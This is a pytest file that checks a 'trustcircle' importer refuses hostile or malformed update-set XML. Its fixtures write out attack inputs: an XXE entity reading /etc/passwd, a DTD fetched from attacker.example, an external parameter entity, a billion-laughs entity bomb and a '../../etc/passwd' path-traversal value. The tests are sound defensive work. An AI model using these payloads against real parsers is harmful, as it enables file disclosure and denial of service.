"""Hostile update-set XML is refused with one clear line, before it can do harm."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from trustcircle.errors import BadInputError, LimitExceededError
from trustcircle.updatesets import ImportLimits, UpdateEntry, UpdateSetHeader, read_update_set

from .builders import SET_ID, document, entry_xml, header_xml, job_entry, read_all, sid, written

DTD_REFUSAL = "update set XML must not contain a DTD or entity declarations: refusing it"
BODY = header_xml() + entry_xml(1) + entry_xml(2)


def refusal(data: bytes, limits: ImportLimits | None = None) -> BadInputError:
    with pytest.raises(BadInputError) as caught:
        read_all(data, limits)
    message = caught.value.message
    assert "\n" not in message, "every error is one line"
    assert "\r" not in message, "every error is one line"
    return caught.value


def test_document_with_internal_dtd_is_refused_before_any_entry() -> None:
    data = document(BODY, prolog='<!DOCTYPE unload [<!ENTITY name "x">]>\n')
    items = read_update_set(io.BytesIO(data), ImportLimits())
    with pytest.raises(BadInputError, match="must not contain a DTD") as caught:
        next(items)  # the very first item: the header is not even yielded
    assert caught.value.message == DTD_REFUSAL


def test_bare_doctype_without_entities_is_refused() -> None:
    data = document(BODY, prolog='<!DOCTYPE unload SYSTEM "http://attacker.example/x.dtd">\n')
    assert refusal(data).message == DTD_REFUSAL


def test_external_entity_reading_etc_passwd_is_refused() -> None:
    prolog = '<!DOCTYPE unload [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    body = header_xml() + entry_xml(1, payload="&xxe;")
    error = refusal(document(body, prolog=prolog))
    assert error.message == DTD_REFUSAL
    assert "root:" not in str(error)


def test_external_parameter_entity_is_never_fetched(tmp_path: Path) -> None:
    # Were the parser to load this file, its broken content would fail the parse instead.
    evil = tmp_path / "evil.dtd"
    evil.write_text('<!ENTITY % broken "never closed')
    prolog = f'<!DOCTYPE unload [<!ENTITY % remote SYSTEM "{evil.as_uri()}"> %remote;]>\n'
    assert refusal(document(BODY, prolog=prolog)).message == DTD_REFUSAL


def test_billion_laughs_is_refused_without_expansion() -> None:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    prolog = "<!DOCTYPE unload [" + "".join(lines) + "]>\n"
    body = header_xml() + entry_xml(1, payload="&lol9;")
    assert refusal(document(body, prolog=prolog)).message == DTD_REFUSAL


def test_undeclared_entity_reference_is_not_xml() -> None:
    body = header_xml() + "\n" + entry_xml(1, payload="&xxe;")
    error = refusal(document(body))
    assert "Entity 'xxe' not defined" in error.message
    assert "at line 4" in error.message


def test_truncated_file_is_refused_with_its_line_number() -> None:
    data = written([job_entry(i) for i in range(5)])
    cut = data[: len(data) // 2]
    line = cut.count(b"\n") + 1
    error = refusal(cut)
    assert "not well-formed" in error.message
    assert f"line {line}" in error.message


def test_non_xml_file_is_refused() -> None:
    error = refusal(b"PK\x03\x04 this is a zip file, not an update set")
    assert "line 1" in error.message


def test_empty_file_is_refused() -> None:
    assert "empty or not XML" in refusal(b"").message


def test_oversize_file_path_is_refused_before_parsing(tmp_path: Path) -> None:
    path = tmp_path / "big.xml"
    path.write_bytes(written([job_entry(i) for i in range(20)]))
    limits = ImportLimits(max_file_bytes=1024)
    with pytest.raises(LimitExceededError) as caught:
        next(read_update_set(path, limits))
    assert "max_file_bytes=1024" in caught.value.message
    assert "trustcircle.updateset.import.max_file_bytes" in caught.value.message


def test_oversize_stream_is_refused_while_reading() -> None:
    data = written([job_entry(i) for i in range(50)])
    error = refusal(data, ImportLimits(max_file_bytes=len(data) - 1))
    assert isinstance(error, LimitExceededError)
    assert "max_file_bytes" in error.message


def test_missing_file_is_bad_input(tmp_path: Path) -> None:
    with pytest.raises(BadInputError, match="does not exist"):
        next(read_update_set(tmp_path / "nope.xml", ImportLimits()))


def test_too_deep_document_is_refused() -> None:
    nested = "<a>" * 20 + "x" + "</a>" * 20
    body = header_xml() + f"<sys_update_xml><payload>{nested}</payload></sys_update_xml>"
    error = refusal(document(body))
    assert "unexpected element" in error.message


def test_nesting_beyond_max_depth_is_a_limit() -> None:
    error = refusal(document(BODY), ImportLimits(max_depth=2))
    assert isinstance(error, LimitExceededError)
    assert "max_depth=2" in error.message
    assert "trustcircle.updateset.import.max_depth" in error.message


def test_oversize_field_is_refused() -> None:
    data = written([job_entry(1, script="x" * 5000)])
    error = refusal(data, ImportLimits(max_field_bytes=4096))
    assert isinstance(error, LimitExceededError)
    assert "<payload>" in error.message
    assert "trustcircle.updateset.import.max_field_bytes" in error.message


def test_oversize_multibyte_field_is_measured_in_utf8_bytes() -> None:
    data = written([job_entry(1, script="é" * 1500)])  # 1500 characters, 3000+ bytes
    error = refusal(data, ImportLimits(max_field_bytes=2048))
    assert isinstance(error, LimitExceededError)


def test_too_many_entries_are_refused() -> None:
    data = written([job_entry(i) for i in range(4)])
    error = refusal(data, ImportLimits(max_entries=3))
    assert isinstance(error, LimitExceededError)
    assert "max_entries=3" in error.message
    assert "trustcircle.updateset.import.max_entries" in error.message


def test_unknown_format_is_refused_naming_the_expected_one() -> None:
    attrs = 'format="servicenow.unload/v9" unload_date="2026-11-27T19:45:00Z"'
    error = refusal(document(BODY, unload_attrs=attrs))
    assert "servicenow.unload/v9" in error.message
    assert "trustcircle.update-set/v1" in error.message


def test_missing_format_is_refused() -> None:
    error = refusal(document(BODY, unload_attrs='unload_date="2026-11-27T19:45:00Z"'))
    assert "trustcircle.update-set/v1" in error.message


def test_foreign_root_element_is_refused() -> None:
    assert "not <unload>" in refusal(b"<html><body/></html>").message


def test_namespaced_unload_is_refused() -> None:
    attrs = 'xmlns="urn:x" format="trustcircle.update-set/v1" unload_date="2026-11-27T19:45:00Z"'
    assert "not <unload>" in refusal(document(BODY, unload_attrs=attrs)).message


def test_duplicate_sys_update_xml_sys_id_is_refused() -> None:
    body = header_xml() + entry_xml(1) + entry_xml(1, target=sid(999))
    error = refusal(document(body))
    assert f"two entries have sys_id {sid(1)}" in error.message


def test_two_entries_for_one_target_are_refused_naming_both() -> None:
    body = header_xml() + entry_xml(1, target=sid(77)) + entry_xml(2, target=sid(77))
    error = refusal(document(body))
    for named in (sid(1), sid(2), sid(77)):
        assert named in error.message


def test_entry_of_another_update_set_is_refused() -> None:
    body = header_xml() + entry_xml(1, update_set=sid(4242))
    error = refusal(document(body))
    assert sid(4242) in error.message
    assert SET_ID in error.message


def test_unknown_action_is_refused() -> None:
    error = refusal(document(header_xml() + entry_xml(1, action="EXECUTE")))
    assert "EXECUTE" in error.message
    assert "INSERT_OR_UPDATE" in error.message


def test_entry_missing_its_payload_is_refused() -> None:
    entry = entry_xml(1).replace("<payload>", "<!--").replace("</payload>", "-->")
    assert "lacks <payload>" in refusal(document(header_xml() + entry)).message


def test_unexpected_element_in_entry_is_refused_not_ignored() -> None:
    entry = entry_xml(1).replace("<action>", "<run_as>admin</run_as><action>")
    assert "unexpected element 'run_as'" in refusal(document(header_xml() + entry)).message


def test_unexpected_record_in_unload_is_refused() -> None:
    body = BODY + "<sys_properties><name>x</name></sys_properties>"
    assert "unexpected element 'sys_properties'" in refusal(document(body)).message


def test_unescaped_record_inside_payload_is_refused() -> None:
    raw = '<record_update table="sysauto_script"><sysauto_script/></record_update>'
    error = refusal(document(header_xml() + entry_xml(1, payload=raw)))
    assert "escaped XML text" in error.message


def test_comment_splitting_a_payload_is_refused() -> None:
    entry = entry_xml(1, payload="&lt;record_update<!-- hidden -->table=")
    assert "comment" in refusal(document(header_xml() + entry)).message


def test_duplicate_field_in_entry_is_refused() -> None:
    entry = entry_xml(1).replace("<action>", "<table>sys_user</table><action>")
    assert "two <table>" in refusal(document(header_xml() + entry)).message


def test_attribute_on_a_field_is_refused() -> None:
    entry = entry_xml(1).replace("<payload>", '<payload encoding="base64">')
    assert "unexpected attributes" in refusal(document(header_xml() + entry)).message


def test_stray_text_between_records_is_refused() -> None:
    body = header_xml() + "run me" + entry_xml(1)
    assert "stray text" in refusal(document(body)).message


def test_stray_text_hidden_before_a_comment_is_refused() -> None:
    body = "junk<!-- looks harmless -->" + header_xml() + entry_xml(1)
    assert "stray text 'junk'" in refusal(document(body)).message


def test_stray_text_after_the_last_record_is_refused() -> None:
    body = header_xml() + entry_xml(1) + "trailing"
    assert "stray text" in refusal(document(body)).message


def test_stray_text_between_fields_is_refused() -> None:
    entry = entry_xml(1).replace("<action>", "sudo<action>")
    assert "stray text" in refusal(document(header_xml() + entry)).message


def test_entries_before_the_header_are_refused() -> None:
    body = entry_xml(1) + header_xml()
    assert "header comes first" in refusal(document(body)).message


def test_second_header_is_refused() -> None:
    body = header_xml() + entry_xml(1) + header_xml(sid(5))
    assert "second <sys_remote_update_set>" in refusal(document(body)).message


def test_file_without_header_is_refused() -> None:
    assert "lacks <sys_remote_update_set>" in refusal(document("")).message


def test_entry_after_the_signature_is_refused() -> None:
    data = written([job_entry(1)])
    smuggled = entry_xml(2).encode()
    data = data.replace(b"</unload>", smuggled + b"</unload>")
    assert "signature comes last" in refusal(data).message


def test_malformed_target_sys_id_is_refused() -> None:
    error = refusal(document(header_xml() + entry_xml(1, target="../../etc/passwd")))
    assert "not 32 lowercase hex" in error.message


def test_malformed_signature_certificate_is_refused() -> None:
    data = written([job_entry(1)]).replace(b"abababab", b"ABABABAB", 1)
    assert "fingerprint" in refusal(data).message


def test_text_mode_stream_is_a_usage_error() -> None:
    from trustcircle.errors import UsageError

    with pytest.raises(UsageError, match="binary mode"):
        list(read_update_set(io.StringIO("<unload/>"), ImportLimits()))  # type: ignore[arg-type]


def test_errors_late_in_file_come_after_earlier_items() -> None:
    """A streaming consumer sees earlier items first: it must discard them on error."""
    body = header_xml() + entry_xml(1) + entry_xml(1, target=sid(999))
    items = read_update_set(io.BytesIO(document(body)), ImportLimits())
    assert isinstance(next(items), UpdateSetHeader)
    assert isinstance(next(items), UpdateEntry)
    with pytest.raises(BadInputError):
        next(items)
